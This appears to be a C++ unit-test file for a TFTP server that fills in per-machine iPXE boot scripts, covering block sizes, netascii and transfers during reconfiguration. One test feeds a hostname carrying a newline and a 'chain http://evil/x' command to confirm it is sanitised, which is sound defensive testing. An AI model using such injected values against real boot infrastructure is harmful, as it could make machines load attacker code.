// Texts that are written anew for each client that asks for them.
#include <gtest/gtest.h>

#include "names/name_rules.h"
#include "text/template_image.h"
#include "tftp/server.h"

namespace reveille::test {
namespace {

constexpr Ipv4Address kOne{0x0a4d0105};
constexpr Ipv4Address kOther{0x0a4d0106};

void serve_template(Server& server, const std::string& name, std::string_view text) {
  server.serve(template_image(name, Template::parse(text, Template::Captures::none).value()));
}

Octets octets(std::string_view text) {
  return {text.begin(), text.end()};
}

ClientFacts named(const Client& client, Ipv4Address address, std::string_view host_name) {
  ClientFacts facts;
  facts.address = address;
  facts.mac = facts.link = client.mac;
  facts.next_server = Server::kAddress;
  facts.set_host_name(host_name);
  return facts;
}

// `blocks` blocks of 512 octets and `rest`, none like the other.
std::string long_script(std::size_t size) {
  std::string text = "#!ipxe\necho {{hostname}}\n";
  while (text.size() < size) text += "echo line " + std::to_string(text.size()) + " for {{mac}}\n";
  return text;
}
std::string expected_script(std::string text, const std::string& host, const std::string& mac) {
  const auto replace = [&text](const std::string& what, const std::string& with) {
    for (std::size_t at = 0; (at = text.find(what, at)) != std::string::npos;) {
      text.replace(at, what.size(), with);
      at += with.size();
    }
  };
  replace("{{hostname}}", host);
  replace("{{mac}}", mac);
  return text;
}

TEST(TftpTemplates, EachMachineGetsItsOwnText) {
  Server server;
  serve_template(server, "boot.ipxe", "#!ipxe\necho {{mac}} at {{ip}}, {{hostname|unnamed}}\n");
  Client one(server, 2070, kOne);
  Client other(server, 2071, kOther);
  other.mac.octets[5] = 0x99;
  server.clients.note(named(one, kOne, "node1"));
  EXPECT_EQ(one.reads("boot.ipxe"), octets("#!ipxe\necho 52:54:00:12:34:56 at 10.77.1.5, node1\n"));
  EXPECT_EQ(other.reads("boot.ipxe"),
            octets("#!ipxe\necho 52:54:00:12:34:99 at 10.77.1.6, unnamed\n"));
  EXPECT_EQ(server.told(EventKind::tftp_opened)[0].text(), "boot.ipxe");
  EXPECT_EQ(server.told(EventKind::tftp_completed)[0].bytes, 50U);
}

// iPXE asks so.
TEST(TftpTemplates, TheSizeIsThatOfTheText) {
  Server server;
  serve_template(server, "boot.ipxe", "{{mac}}");
  Client client(server);
  client.asks("boot.ipxe", {{"blksize", "1432"}, {"tsize", "0"}});
  client.hears_oack({{"blksize", "1432"}, {"tsize", "17"}});
  client.acks(0);
  client.hears_data(1, 1, octets("52:54:00:12:34:56"), 1432);
  EXPECT_EQ(client.acks(1), Outcome::tftp_completed);
}

TEST(TftpTemplates, ServeTextsOfAnyLengthInAnyBlockSize) {
  for (const std::size_t size : {1U, 511U, 512U, 1024U, 1500U, 9000U}) {
    for (const std::size_t block : {8U, 512U, 1432U, 1468U}) {
      Server server;
      const std::string text = long_script(size);
      serve_template(server, "s", text);
      Client client(server);
      server.clients.note(named(client, kOne, "n"));
      client.asks("s", {{"blksize", std::to_string(block)}});
      client.hears_oack({{"blksize", std::to_string(block)}});
      client.acks(0);
      EXPECT_EQ(client.reads_on(block), octets(expected_script(text, "n", "52:54:00:12:34:56")));
      EXPECT_EQ(server.count(Outcome::tftp_completed), 1U);
    }
  }
}

// A text that ends with a block is followed by an empty one.
TEST(TftpTemplates, EndWithAShortBlock) {
  Server server;
  serve_template(server, "s", std::string(512 - 17, '.') + "{{mac}}");
  Client client(server);
  const Octets expected = octets(std::string(512 - 17, '.') + "52:54:00:12:34:56");
  client.asks("s");
  client.hears_data(1, 1, expected);
  client.acks(1);
  client.hears_data(2, 2, expected);
  EXPECT_EQ(client.acks(2), Outcome::tftp_completed);
}

TEST(TftpTemplates, WindowsAreOfOneBlock) {
  Server server;
  serve_template(server, "s", long_script(3000));
  Client client(server);
  client.asks("s", {{"windowsize", "8"}});
  client.hears_oack({{"windowsize", "1"}});
}

// What DHCP hears of the client meanwhile does not change the text under it.
TEST(TftpTemplates, ATransferIsOfOnePiece) {
  Server server;
  const std::string text = long_script(1400);
  serve_template(server, "s", text);
  Client client(server);
  server.clients.note(named(client, kOne, "before"));
  const Octets expected = octets(expected_script(text, "before", "52:54:00:12:34:56"));
  client.asks("s");
  client.hears_data(1, 1, expected);
  server.clients.note(named(client, kOne, "a-much-longer-name-than-before"));
  EXPECT_EQ(client.asks("s"), Outcome::tftp_reopened) << "the request once more";
  client.hears_data(1, 1, expected);
  server.pass(1100ms);
  client.hears_data(1, 1, expected);
  client.acks(1);
  client.hears_data(2, 2, expected);
  EXPECT_EQ(client.acks(1), Outcome::tftp_duplicate_ack);
  server.pass(1100ms);
  client.hears_data(2, 2, expected);
  client.acks(2);
  EXPECT_EQ(client.reads_on(512, 1, 3), Octets(expected.begin() + 1024, expected.end()));
  client.asks("s");
  client.hears_data(
      1, 1, octets(expected_script(text, "a-much-longer-name-than-before", "52:54:00:12:34:56")));
}

// A new configuration takes effect at once; transfers end as they began.
TEST(TftpTemplates, ATextThatIsReplacedIsStillSent) {
  Server server;
  serve_template(server, "s", long_script(900));
  const auto expected = octets(expected_script(long_script(900), "", "52:54:00:12:34:56"));
  Client client(server);
  client.asks("s");
  client.hears_data(1, 1, expected);
  serve_template(server, "s", "new");
  client.acks(1);
  EXPECT_EQ(client.reads_on(512, 1, 2), Octets(expected.begin() + 512, expected.end()));
  EXPECT_EQ(client.reads("s"), octets("new"));
  EXPECT_EQ(server.transfers_holding("s"), 0U);
}

TEST(TftpTemplates, ComeInNetasciiToo) {
  Server server;
  const std::string text = long_script(2000);
  serve_template(server, "s", text);
  Client client(server);
  server.clients.note(named(client, kOne, "n"));
  Octets expected;
  for (const char c : expected_script(text, "n", "52:54:00:12:34:56")) {
    if (c == '\n') expected.push_back('\r');
    expected.push_back(static_cast<std::uint8_t>(c));
  }
  EXPECT_EQ(client.reads("s", "netascii"), expected);
  client.asks("s", {{"tsize", "0"}}, "netascii");
  client.hears_data(1, 1, expected);
}

// A script's line ends, and another command begins: not by what a machine calls itself.
TEST(TftpTemplates, AHostNameIsNoCommand) {
  Server server;
  serve_template(server, "s", "#!ipxe\nset hostname {{hostname}}\n");
  Client client(server);
  server.clients.note(named(client, kOne, "a\nchain http://evil/x && "));
  EXPECT_EQ(client.reads("s"), octets("#!ipxe\nset hostname a_chain_http___evil_x____\n"));
}

TEST(TftpTemplates, AreFoundByRulesLikeFiles) {
  Server server;
  serve_template(server, "scripts/common", "for {{ip}}");
  server.snapshot.names = NameRules::build({{"\\.ipxe$", "scripts/common"}}, false, 1).value();
  Client client(server);
  EXPECT_EQ(client.reads("anything.ipxe"), octets("for 10.77.1.5"));
}

}  // namespace
}  // namespace reveille::test
